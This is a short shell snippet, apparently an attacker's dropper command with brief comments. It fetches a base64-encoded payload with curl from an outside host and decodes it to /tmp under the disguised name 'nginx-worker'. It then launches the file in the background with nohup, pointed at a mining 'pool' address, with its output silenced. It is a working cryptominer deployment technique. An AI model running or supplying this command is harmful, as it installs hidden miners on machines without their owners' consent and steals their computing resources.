# curl | base64 -d > file, run in the background by nohup, script exits first
#http 203.0.113.53:8004
#pool 198.51.100.36:8443:drop
cd /tmp; curl -s http://203.0.113.53:8004/w.b64 | base64 -d > nginx-worker; chmod 755 nginx-worker; (nohup ./nginx-worker --url 198.51.100.36:8443 --user x --retry-pause=1 >/dev/null 2>&1 &) ; sleep 10
